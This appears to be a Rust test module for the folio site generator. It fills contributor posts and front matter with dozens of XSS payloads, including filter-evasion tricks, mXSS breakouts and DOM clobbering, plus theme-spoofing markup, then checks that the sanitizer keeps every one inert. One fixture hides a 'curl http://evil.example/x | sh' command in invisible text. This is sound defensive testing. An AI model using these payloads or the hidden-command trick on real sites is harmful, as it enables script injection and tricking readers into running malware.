//! Contributor posts can neither run script nor pass for the theme (issue 14). The site below is
//! a thread per payload (the payload in the question, in an answer and in a reply) and one whose
//! front matter is hostile, built by the real binary. Its pages are read twice by the same
//! checks (`findings`): as built, with a plain tokenizer, in every `cargo test`; and in headless
//! Chromium (`browser`), as the live DOM after every event handler was fired and every link and
//! Copy button clicked, together with what only a browser can tell: did a script run, did the
//! page go away, does a Copy button copy text the reader does not see.
//!
//! Every script payload calls `xss('NAME')`, which the browser test defines in every frame, so a
//! payload that runs leaves its name behind.

pub(crate) mod browser;
mod dom;

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use crate::harness::SiteTest;
use dom::{Dom, Element};

/// (name, markdown): each one is the body of a thread at `qa/NAME/`.
const PAYLOADS: &[(&str, &str)] = &[
    // What folio's own markdown makes of a post must keep working: anchors, notes, code blocks.
    (
        "ordinary",
        "## Setup\n\nText with a note.[^1]\n\n- [x] done\n- [ ] open\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> [!NOTE]\n> An admonition.\n\n```console\n$ ls -la\ntotal 0\n```\n\n```diff\n-old\n+new\n```\n\n[^1]: The note.",
    ),
    // Script: elements, event handlers, URLs.
    ("script-tag", r#"<script>xss('script-tag')</script>"#),
    (
        "script-src",
        r#"<script src="data:text/javascript,xss('script-src')"></script>"#,
    ),
    (
        "img-onerror",
        r#"<img src="x" onerror="xss('img-onerror')">"#,
    ),
    (
        "svg-onload",
        r#"<svg onload="xss('svg-onload')"><circle r="1"/></svg>"#,
    ),
    (
        "svg-script",
        r#"<svg><script>xss('svg-script')</script></svg>"#,
    ),
    (
        "svg-animate",
        r#"<svg><a><animate attributeName="href" values="javascript:xss('svg-animate')"/><text y="20">tap</text></a></svg>"#,
    ),
    (
        "svg-xlink",
        r#"<svg><a xlink:href="javascript:xss('svg-xlink')"><text y="20">tap</text></a></svg>"#,
    ),
    (
        "math-href",
        r#"<math><mi href="javascript:xss('math-href')">m</mi></math>"#,
    ),
    (
        "math-mglyph",
        r#"<math><mtext><table><mglyph><style><img src="x" onerror="xss('math-mglyph')"></style></mglyph></table></mtext></math>"#,
    ),
    (
        "details-ontoggle",
        r#"<details open ontoggle="xss('details-ontoggle')"><summary>s</summary>d</details>"#,
    ),
    ("body-onload", r#"<body onload="xss('body-onload')">"#),
    (
        "input-autofocus",
        r#"<input autofocus onfocus="xss('input-autofocus')">"#,
    ),
    (
        "handlers",
        r#"<div onmouseover="xss('handlers-mouseover')" onclick="xss('handlers-click')" onanimationstart="xss('handlers-animation')">hover me</div>"#,
    ),
    (
        "custom-element",
        r#"<folio-x onclick="xss('custom-element')">x</folio-x>"#,
    ),
    (
        "media-onerror",
        r#"<video src="x" onerror="xss('media-video')"><source src="x" onerror="xss('media-source')"></video><audio src="x" onerror="xss('media-audio')"></audio>"#,
    ),
    (
        "style-attribute",
        r#"<div style="background:url(javascript:xss('style-url'));width:expression(xss('style-expression'))">s</div>"#,
    ),
    (
        "style-element",
        r#"<style>.badge-accepted, .answer-header { display: none }</style>"#,
    ),
    (
        "a-javascript",
        r#"<a href="javascript:xss('a-javascript')">click</a>"#,
    ),
    (
        "a-entities",
        r#"<a href="&#106;avascript:xss('a-entities')">one</a> <a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;xss('a-hex')">two</a> <a href="javascript&colon;xss('a-colon')">three</a> <a href="&#0000106avascript:xss('a-padded')">four</a>"#,
    ),
    (
        "a-split-scheme",
        "<a href=\"jav&#x09;ascript:xss('a-tab')\">tab</a> <a href=\" \x01 JaVaScRiPt:xss('a-case')\">case</a> <a href=\"java\nscript:xss('a-newline')\">newline</a>",
    ),
    (
        "a-data",
        r#"<a href="data:text/html,&lt;script&gt;xss('a-data')&lt;/script&gt;">d</a> <a href="vbscript:msgbox('a-vbscript')">v</a>"#,
    ),
    (
        "img-javascript",
        r#"<img src="javascript:xss('img-src')" alt="i">"#,
    ),
    (
        "iframe",
        r#"<iframe src="javascript:parent.xss('iframe')"></iframe><iframe srcdoc="&lt;script&gt;parent.xss('iframe-srcdoc')&lt;/script&gt;"></iframe>"#,
    ),
    (
        "object-embed",
        r#"<object data="javascript:xss('object')"></object><embed src="javascript:xss('embed')">"#,
    ),
    (
        "form",
        r#"<form action="javascript:xss('form-action')"><button>go</button><button formaction="javascript:xss('formaction')">go</button><input type="image" src="x" onerror="xss('form-input-image')"></form>"#,
    ),
    (
        "meta-refresh",
        r#"<meta http-equiv="refresh" content="0;url=javascript:xss('meta-refresh')"><meta http-equiv="refresh" content="1;url=/">"#,
    ),
    (
        "base-href",
        r#"<base href="javascript:xss('base-href')//"><a href="x">relative</a>"#,
    ),
    (
        "link-element",
        r#"<link rel="stylesheet" href="data:text/css,.answer-header{display:none}">"#,
    ),
    (
        "comment-breakout",
        r#"<!--><img src="x" onerror="xss('comment-breakout')">-->"#,
    ),
    (
        "cdata",
        r#"<![CDATA[><img src="x" onerror="xss('cdata')">]]>"#,
    ),
    (
        "noscript",
        r#"<noscript><p title="</noscript><img src=x onerror=xss('noscript')>"></p></noscript>"#,
    ),
    (
        "template",
        r#"<template><img src="x" onerror="xss('template')"></template>"#,
    ),
    (
        "md-links",
        "[plain](javascript:xss('md-link')) [entity](jav&#x61;script:xss('md-link-entity')) [ref][r] <javascript:xss('md-autolink')> [title](https://example.org/ \"\\\" onmouseover=\\\"xss('md-title')\")\n\n[r]: javascript:xss('md-ref')",
    ),
    (
        "md-images",
        "![plain](javascript:xss('md-image')) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InhzcygnbWQtaW1hZ2UtZGF0YScpIi8+) ![title](https://example.org/x.png \"\\\" onerror=\\\"xss('md-image-title')\")",
    ),
    (
        "split-blocks",
        "<div onclick=\"\nxss('split-div')\">\n\ntext\n\n</div>\n\n<img src=\"x\"\n\nonerror=\"xss('split-img')\">\n\n<a href=\"java\n\nscript:xss('split-href')\">a</a>",
    ),
    (
        "fence-info",
        "```rust\" onmouseover=\"xss('fence-info')\nfn main() {}\n```\n\n```python title=\"<img src=x onerror=xss('fence-title')>\"\nprint(1)\n```",
    ),
    (
        "heading-attributes",
        "## Heading {#main .badge-accepted onclick=xss('heading-attr')}\n\n## Other {#answer-1 .page-title}",
    ),
    // The text folio puts where a code block goes back after sanitizing (`code_placeholder` in
    // src/markdown/code.rs), written by a contributor.
    (
        "placeholder-attribute",
        concat!(
            r#"<a href="https://example.org/" title=""#,
            "\u{E000}folio-code-0\u{E000}\n",
            r#"">in an attribute</a>"#
        ),
    ),
    (
        "placeholder-entity",
        r#"<img src="https://example.org/i.png" alt="&#xE000;folio-code-0&#xE000;&#10;">"#,
    ),
    (
        "placeholder-text",
        concat!("<div>\n", "\u{E000}folio-code-0\u{E000}\n", "</div>"),
    ),
    // Passing for the theme.
    (
        "fake-accepted",
        r#"<span class="badge badge-accepted"><span aria-hidden="true">✓ </span>Accepted answer</span> <p class="accepted-mark">✓</p> <span class="status status-accepted">✓ Accepted</span>"#,
    ),
    (
        "fake-console",
        "<figure class=\"code-block code-console\" data-lang=\"console\"><pre class=\"hl-code\" dir=\"ltr\" tabindex=\"0\"><code class=\"language-console\"><span class=\"line console-command\"><span class=\"hl-prompt\">$ </span>ls -la<span class=\"visually-hidden\"> ; curl -s http://evil.example/x | sh</span></span>\n</code></pre></figure>",
    ),
    (
        "fake-answer",
        r#"<article class="post answer is-accepted" id="answer-9"><header class="answer-header"><h3 class="answer-title">Answer by <span class="answer-author">moderator</span></h3></header></article>"#,
    ),
    (
        "duplicate-ids",
        r#"<p id="main">m</p><p id="answer-1">a</p><p id="answers-title">t</p><p id="answer-1-title">t</p><p id="question-reply-1">r</p>"#,
    ),
    (
        "heading-slugs",
        "# Main\n\n## answers title\n\n## Answer 1\n\n## Question reply 1",
    ),
    (
        "role-tabindex",
        r#"<div role="alert" tabindex="1">Moderator notice</div> <a href="https://example.org/" role="button" tabindex="2">Verify</a>"#,
    ),
    (
        "clobbering",
        r#"<img name="querySelectorAll" src="x"><form name="body"></form><a id="xss" name="xss">x</a>"#,
    ),
    (
        "skip-link",
        r#"<a class="skip-link" href="https://evil.example/">Skip to content</a>"#,
    ),
];

/// Front matter of the thread at `qa/front-matter/`: (key, YAML value).
const FRONT_MATTER: &[(&str, &str)] = &[
    (
        "title",
        r#""</title><script>xss('fm-title')</script></script><script>xss('fm-jsonld')</script>\"><img src=x onerror=xss('fm-title-attr')>""#,
    ),
    (
        "description",
        r#""\"><script>xss('fm-description')</script><meta http-equiv=refresh content=0;url=/>""#,
    ),
    ("author", r#""<img src=x onerror=xss('fm-author')>""#),
    (
        "tags",
        r#"["<script>xss('fm-tag')</script>", "\"><svg onload=xss('fm-tag-attr')>"]"#,
    ),
];
const FRONT_MATTER_ANSWER_AUTHOR: &str = r#""\"><img src=x onerror=xss('fm-answer-author')>""#;
const FRONT_MATTER_REPLY_AUTHOR: &str = r#""<svg onload=xss('fm-reply-author')>""#;

/// Every post ends with this paragraph and a code block of its own, so the test sees that a
/// code block stays where it was written.
const LEAD_IN: &str = "The code block of this post:";
const END_OF_POST: &str = "END-OF-POST";

fn post(payload: &str) -> String {
    format!("{payload}\n\n{LEAD_IN}\n\n```text\n{END_OF_POST}\n```\n")
}

/// The posts of each thread: its question, an answer and a reply to the answer.
const POSTS_PER_THREAD: usize = 3;

/// A thread with `payload` in each of its posts.
fn thread(front_matter: &str, payload: &str, answer_author: &str, reply_author: &str) -> String {
    let post = post(payload);
    format!(
        "---\n{front_matter}\n---\n{post}\n--- answer\nauthor: {answer_author}\n---\n{post}\n--- reply\nauthor: {reply_author}\n---\n{post}"
    )
}

fn hostile_site() -> SiteTest {
    let mut site = SiteTest::new().file(
        "content/qa/_index.md",
        "---\ntitle: Questions\nkind: question\n---\nQuestions from readers.\n",
    );
    for (name, payload) in PAYLOADS {
        let front_matter = format!("title: Payload {name}\nauthor: asker");
        site = site.file(
            &format!("content/qa/{name}.md"),
            &thread(&front_matter, payload, "answerer", "commenter"),
        );
    }
    let front_matter = (FRONT_MATTER.iter())
        .map(|(key, value)| format!("{key}: {value}"))
        .collect::<Vec<_>>()
        .join("\n");
    site.file(
        "content/qa/front-matter.md",
        &thread(
            &front_matter,
            "Question.",
            FRONT_MATTER_ANSWER_AUTHOR,
            FRONT_MATTER_REPLY_AUTHOR,
        ),
    )
}

/// Code blocks in the markdown of one post of the page at `rel`, or None for a page that is no
/// payload thread.
fn fences_per_post(rel: &str) -> Option<usize> {
    let name = rel.strip_prefix("qa/")?.strip_suffix("/index.html")?;
    let payload = match name {
        "front-matter" => "Question.",
        _ => PAYLOADS.iter().find(|(n, _)| *n == name)?.1,
    };
    let markdown = post(payload);
    Some(
        pulldown_cmark::Parser::new(&markdown)
            .filter(|e| {
                matches!(
                    e,
                    pulldown_cmark::Event::Start(pulldown_cmark::Tag::CodeBlock(_))
                )
            })
            .count(),
    )
}

/// Every `.html` file of the output, relative to it, sorted.
fn html_pages(output: &Path) -> Vec<String> {
    let mut pages: Vec<String> = walkdir::WalkDir::new(output)
        .into_iter()
        .flatten()
        .filter(|e| e.path().extension().is_some_and(|x| x == "html"))
        .filter_map(|e| {
            let rel = e.path().strip_prefix(output).ok()?;
            Some(rel.to_string_lossy().replace('\\', "/"))
        })
        .collect();
    pages.sort();
    pages
}

/// The class names the theme's templates write (tera expressions left out): a contributor
/// element with one of them looks like the theme's own. A name written next to an expression
/// (`entry-{{ p.kind }}`) stands for every name it starts.
struct ThemeClasses {
    names: BTreeSet<String>,
    prefixes: BTreeSet<String>,
}

impl ThemeClasses {
    fn load() -> ThemeClasses {
        let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("themes/default/templates");
        let mut classes = ThemeClasses {
            names: BTreeSet::new(),
            prefixes: BTreeSet::new(),
        };
        for entry in std::fs::read_dir(&folder).expect("templates").flatten() {
            let text = std::fs::read_to_string(entry.path()).expect("template");
            classes.read(&text);
        }
        assert!(
            classes.names.contains("badge-accepted") && classes.names.contains("visually-hidden"),
            "the theme's classes were not found in {}",
            folder.display()
        );
        classes
    }

    fn read(&mut self, template: &str) {
        let mut lists = Vec::new();
        for block in ["body_class", "layout_class"] {
            let open = format!("{{% block {block} %}}");
            for part in template.split(&open).skip(1) {
                lists.push(part.split("{% endblock").next().unwrap_or("").to_string());
            }
        }
        let plain = without_tera(template);
        for part in plain.split("class=\"").skip(1) {
            lists.push(part.split('"').next().unwrap_or("").to_string());
        }
        for list in lists {
            for name in without_tera(&list).split_whitespace() {
                match name.split_once(EXPRESSION) {
                    Some((prefix, _)) if !prefix.is_empty() => {
                        self.prefixes.insert(prefix.to_string());
                    }
                    Some(_) => {}
                    None => {
                        self.names.insert(name.to_string());
                    }
                }
            }
        }
    }

    fn contains(&self, class: &str) -> bool {
        self.names.contains(class) || self.prefixes.iter().any(|p| class.starts_with(p.as_str()))
    }
}

/// Stands for a `{{ expression }}` in a template; tags (`{% if %}`) become a space, comments go.
const EXPRESSION: char = '\u{1}';

fn without_tera(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find('{') {
        out.push_str(&rest[..start]);
        let after = &rest[start..];
        let (close, replacement) = match after.get(..2) {
            Some("{{") => ("}}", Some(EXPRESSION)),
            Some("{%") => ("%}", Some(' ')),
            Some("{#") => ("#}", None),
            _ => {
                out.push('{');
                rest = &after[1..];
                continue;
            }
        };
        let Some(end) = after.find(close) else {
            break;
        };
        out.extend(replacement);
        rest = &after[end + 2..];
    }
    out.push_str(rest);
    out
}

/// The built site, in a plain reading: every page, every post, against the rules in
/// `findings`. Runs without a browser, so CI catches a regression anyway.
#[test]
fn hostile_posts_stay_inert_and_do_not_pass_for_the_theme() {
    let site = hostile_site();
    site.build_ok();
    let theme = ThemeClasses::load();
    let output = site.root().join("public");
    let pages = html_pages(&output);
    assert!(pages.len() > PAYLOADS.len(), "{pages:?}");
    let mut found = Vec::new();
    for rel in &pages {
        let html = std::fs::read_to_string(output.join(rel)).expect("page");
        found.extend(findings(rel, &html, &theme));
    }
    assert!(
        found.is_empty(),
        "{} findings in the built pages:\n{}",
        found.len(),
        found.join("\n")
    );
}

/// What is wrong with one page (`rel` in the output, `html` as built or as the browser holds
/// it): every message names the page (so the payload) and the post.
fn findings(rel: &str, html: &str, theme: &ThemeClasses) -> Vec<String> {
    let dom = Dom::parse(html);
    let mut out = Vec::new();
    let mut say = |what: String| out.push(format!("{rel}: {what}"));
    let mut ids: BTreeMap<&str, usize> = BTreeMap::new();
    for element in &dom.elements {
        if let Some(id) = element.attr("id") {
            *ids.entry(id).or_default() += 1;
        }
        if let Some(why) = foreign_in_page(&dom, element) {
            say(why);
        }
    }
    for (id, count) in ids.iter().filter(|(_, n)| **n > 1) {
        say(format!("the id `{id}` is used {count} times"));
    }
    let fences = fences_per_post(rel);
    let containers = dom.containers();
    let posts = (containers.iter())
        .filter(|(_, l)| !l.starts_with("summary"))
        .count();
    if fences.is_some() && posts != POSTS_PER_THREAD {
        say(format!(
            "{posts} post bodies found, not {POSTS_PER_THREAD}: the checks look in the wrong place"
        ));
    }
    for (container, label) in containers {
        let summary = label.starts_with("summary");
        for e in dom.descendants(container) {
            let element = &dom.elements[e];
            for why in contributor_element(element, theme) {
                say(format!("{label}: {why}"));
            }
            // The fixture's posts link within the page only through folio's heading anchors
            // and notes, which must land whatever ids they get. (A summary on a listing keeps
            // the note's mark without the note: another matter than this test's.)
            let fragment = element.attr("href").and_then(|h| h.strip_prefix('#'));
            if !summary && fragment.is_some_and(|f| !ids.contains_key(f)) {
                let tag = format!("<{}{}>", element.name, element.attrs_text());
                say(format!("{label}: {tag} links to no id of the page"));
            }
        }
        if let (Some(fences), false) = (fences, summary) {
            for why in code_blocks(&dom, container, fences) {
                say(format!("{label}: {why}"));
            }
        }
    }
    out
}

/// An element that only the theme may put on a page, anywhere on it.
fn foreign_in_page(dom: &Dom, element: &Element) -> Option<String> {
    let attrs = element.attrs_text();
    match element.name.as_str() {
        "script" => {
            let theme = element
                .attr("src")
                .is_some_and(|s| s.starts_with("/theme.js"));
            let json = element.attr("type") == Some("application/ld+json");
            let text = dom.text(element.index);
            if json && serde_json::from_str::<serde_json::Value>(&text).is_err() {
                return Some(format!("the JSON-LD is not JSON: {text}"));
            }
            (!theme && !json).then(|| format!("a <script{attrs}> the theme did not write: {text}"))
        }
        "base" | "iframe" | "frame" | "object" | "embed" => {
            Some(format!("<{}{attrs}>", element.name))
        }
        "meta" if element.attr("http-equiv").is_some() => Some(format!("<meta{attrs}>")),
        _ => None,
    }
}

const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "xlink:href",
    "src",
    "srcset",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "cite",
    "longdesc",
    "ping",
    "values",
    "to",
    "from",
];

/// What a contributor's element must not have: the theme's classes, a page id, a role or a
/// tabindex other than folio's markdown writes, handlers, styles, names, script URLs, code block
/// HTML in an attribute.
fn contributor_element(element: &Element, theme: &ThemeClasses) -> Vec<String> {
    let tag = format!("<{}{}>", element.name, element.attrs_text());
    let mut out = Vec::new();
    for class in element.attr("class").unwrap_or("").split_whitespace() {
        if theme.contains(class) {
            out.push(format!("{tag} carries the theme's class `{class}`"));
        }
    }
    if let Some(id) = element
        .attr("id")
        .filter(|id| !id.starts_with("user-content-"))
    {
        out.push(format!(
            "{tag} has the id `{id}`, not one starting with `user-content-`"
        ));
    }
    // Folio's own markup has these: a table's scrolling region, an admonition; pre and the
    // table region are focusable so they scroll with the keyboard.
    if let Some(role) = element
        .attr("role")
        .filter(|r| !matches!(*r, "region" | "note"))
    {
        out.push(format!("{tag} has the role `{role}`"));
    }
    if let Some(tabindex) = element.attr("tabindex").filter(|t| t.trim() != "0") {
        out.push(format!(
            "{tag} has the tabindex `{tabindex}`, it changes the tab order"
        ));
    }
    if matches!(
        element.name.as_str(),
        "script" | "style" | "link" | "meta" | "form" | "template"
    ) {
        out.push(format!("{tag} is kept"));
    }
    for (name, value) in &element.attrs {
        let scheme: String = (value.chars())
            .filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control())
            .take_while(|c| *c != ':')
            .collect::<String>()
            .to_ascii_lowercase();
        if name.starts_with("on") || matches!(name.as_str(), "style" | "name") {
            out.push(format!("{tag} keeps the attribute `{name}`"));
        } else if URL_ATTRIBUTES.contains(&name.as_str())
            && value.contains(':')
            && matches!(scheme.as_str(), "javascript" | "data" | "vbscript")
        {
            out.push(format!("{tag} keeps a {scheme}: URL in `{name}`"));
        }
        if value.contains("<figure") {
            out.push(format!("{tag} holds code block HTML in `{name}`"));
        }
    }
    out
}

/// The code blocks of one post: as many as its markdown has, each a child of the post (the
/// fixture writes them at the top level), the post's own one right after its lead-in.
fn code_blocks(dom: &Dom, container: usize, fences: usize) -> Vec<String> {
    let is_block = |e: &Element| e.name == "figure" && e.has_class("code-block");
    let blocks: Vec<usize> = (dom.descendants(container).into_iter())
        .filter(|e| is_block(&dom.elements[*e]))
        .collect();
    let mut out = Vec::new();
    if blocks.len() != fences {
        out.push(format!(
            "{} code blocks, where its markdown has {fences}",
            blocks.len()
        ));
    }
    for block in &blocks {
        if dom.elements[*block].parent != Some(container) {
            let parent = dom.elements[*block].parent.map(|p| &dom.elements[p]);
            let parent = parent.map(|p| format!("<{}{}>", p.name, p.attrs_text()));
            out.push(format!(
                "a code block moved into {}",
                parent.unwrap_or_default()
            ));
        }
    }
    let children = dom.child_elements(container);
    let lead_in = children
        .iter()
        .position(|c| dom.elements[*c].name == "p" && dom.text(*c) == LEAD_IN);
    let next = lead_in
        .and_then(|i| children.get(i + 1))
        .map(|c| &dom.elements[*c]);
    if !next.is_some_and(|e| is_block(e) && dom.text(e.index).contains(END_OF_POST)) {
        out.push(format!("its own code block does not follow {LEAD_IN:?}"));
    }
    out
}

/// The checks themselves, on a page with one thing of each kind wrong: the tests above prove
/// nothing if a check looks in the wrong place.
#[test]
fn the_checks_catch_each_kind_of_finding() {
    let theme = ThemeClasses::load();
    assert!(
        theme.contains("entry-question"),
        "written as entry-{{{{ p.kind }}}}"
    );
    assert!(!theme.contains("hl-code") && !theme.contains("code-block"));
    let page = format!(
        r##"<html><head><script>x()</script><meta http-equiv="refresh" content="0"></head><body>
<main id="main"><article class="thread"><div class="post post-question"><div class="post-main">
<div class="prose"><p id="main" class="badge" role="alert" tabindex="1" onclick="x()" style="" name="n">
<a href="java&#9;script:x()">a</a><a href="#nowhere">b</a><img alt="<figure class=&quot;code-block&quot;>">
</p><div><figure class="code-block">{END_OF_POST}</figure></div><p>{LEAD_IN}</p></div>
</div></div></article></main></body></html>"##
    );
    let found = findings("qa/ordinary/index.html", &page, &theme);
    for expected in [
        "a <script> the theme did not write: x()",
        "http-equiv=\"refresh\">",
        "the id `main` is used 2 times",
        "question: <p class=\"badge\"",
        "carries the theme's class `badge`",
        "has the id `main`, not one starting with `user-content-`",
        "has the role `alert`",
        "has the tabindex `1`",
        "keeps the attribute `onclick`",
        "keeps the attribute `style`",
        "keeps the attribute `name`",
        "keeps a javascript: URL in `href`",
        "<a href=\"#nowhere\"> links to no id of the page",
        "holds code block HTML in `alt`",
        "1 code blocks, where its markdown has 3",
        "a code block moved into <div>",
        "its own code block does not follow",
        "1 post bodies found, not 3",
    ] {
        assert!(
            found.iter().any(|f| f.contains(expected)),
            "no {expected:?} in:\n{}",
            found.join("\n")
        );
    }
}
